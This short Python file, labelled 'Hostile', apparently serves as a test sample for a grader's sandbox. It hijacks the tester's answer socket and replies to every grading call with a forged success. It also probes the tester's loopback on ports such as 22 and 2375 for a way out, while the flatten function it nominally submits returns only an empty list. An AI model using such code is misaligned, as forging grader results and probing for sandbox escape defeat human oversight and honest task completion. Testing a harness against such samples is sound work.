# Hostile: grabs the connections the tester hands to tests (by dialing its socket itself)
# and answers every call with a made-up value, and tries the way back to the tester's
# loopback on ports no test registered.
import socket
import threading
import time


def forge(conn):
    try:
        with conn:
            conn.makefile("rb").readline()
            conn.sendall(b'{"ok": []}\n')
    except OSError:
        pass


def grab():
    while True:
        try:
            conn = socket.socket(socket.AF_UNIX)
            conn.connect("/answer/link.sock")
        except OSError:
            return
        threading.Thread(target=forge, args=(conn,), daemon=True).start()


for _ in range(4):
    threading.Thread(target=grab, daemon=True).start()


def probe_the_way_back():
    for _ in range(100):  # the way back exists once the tests run
        try:
            socket.socket(socket.AF_UNIX).connect("/answer/back.sock")
            break
        except OSError:
            time.sleep(0.05)
    found = []
    for port in (22, 2375, 8079, 8080, 35000):
        try:
            with socket.socket(socket.AF_UNIX) as back:
                back.settimeout(1)
                back.connect("/answer/back.sock")
                back.sendall(f"{port}\n".encode())
                found.append(f"back {port}: {back.recv(100)!r}")
        except OSError as exc:
            found.append(f"back {port}: {exc}")
    print("hijack:", found, flush=True)


print("hijack: dialing the tester's socket", flush=True)
threading.Thread(target=probe_the_way_back, daemon=True).start()


def flatten(items):
    return []
